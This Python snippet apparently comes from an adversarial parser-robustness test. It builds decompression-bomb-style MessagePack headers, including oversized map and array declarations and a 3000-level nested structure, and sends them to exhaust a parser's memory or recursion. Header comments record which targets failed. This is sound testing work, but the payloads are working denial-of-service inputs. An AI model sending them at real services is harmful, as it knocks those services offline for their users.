# attack: a header that takes far more memory than bytes, and one that nests without end
# from: X24, 39 MB JSON bomb
# neuron: failed
# others: passed
calls = 0


def neuron(x, w, b):
    global calls
    calls += 1
    header = [
        b"\xdd" + struct.pack(">I", 2_000_000) + b"\x80" * 2_000_000,
        b"\x91" * 2_000_000,
        b"\xdc\xff\xff" + b"\x90" * 65_535 + b"\x01" * 1_000_000,
        nested(),
    ][calls % 4]
    send_bytes(framed(header))


def nested():
    """Return tuples in tuples, each of which starts a parser."""
    data = b"\x90"
    for _ in range(3000):
        data = b"\xc9" + struct.pack(">I", len(data) + 1) + b"\x01\x91" + data
    return data
